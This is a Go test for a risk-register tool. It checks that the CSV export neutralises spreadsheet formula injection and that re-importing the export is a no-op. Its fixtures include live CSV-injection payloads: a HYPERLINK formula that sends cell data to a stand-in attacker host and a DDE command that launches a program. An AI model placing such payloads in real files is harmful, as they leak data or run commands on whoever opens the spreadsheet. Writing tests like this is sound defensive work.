package main

import (
	"encoding/csv"
	"strings"
	"testing"
)

// A CSV export never writes a cell a spreadsheet runs as a formula, and
// importing the export changes nothing: the neutralising quote is undone.
func TestExportNeutralisesFormulas(t *testing.T) {
	h := newHub(t, testConfig)
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`, `'=quoted already`}
	var in strings.Builder
	in.WriteString("key,title,source,owner\n")
	cw := csv.NewWriter(&in)
	for i, v := range evil {
		_ = cw.Write([]string{"R-" + string(rune('1'+i)), v, v, "\t" + v})
	}
	cw.Flush()
	h.Write("evil.csv", in.String())
	h.OK("risk", "import", "evil.csv")
	out := h.OK("risk", "export")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("exported cell %q starts with a formula character", cell)
			}
		}
	}
	h.Write("export.csv", out)
	if got := h.OK("risk", "import", "export.csv"); !strings.Contains(got, "0 created, 0 updated, 5 unchanged") {
		t.Errorf("re-importing the export: %s", got)
	}
}
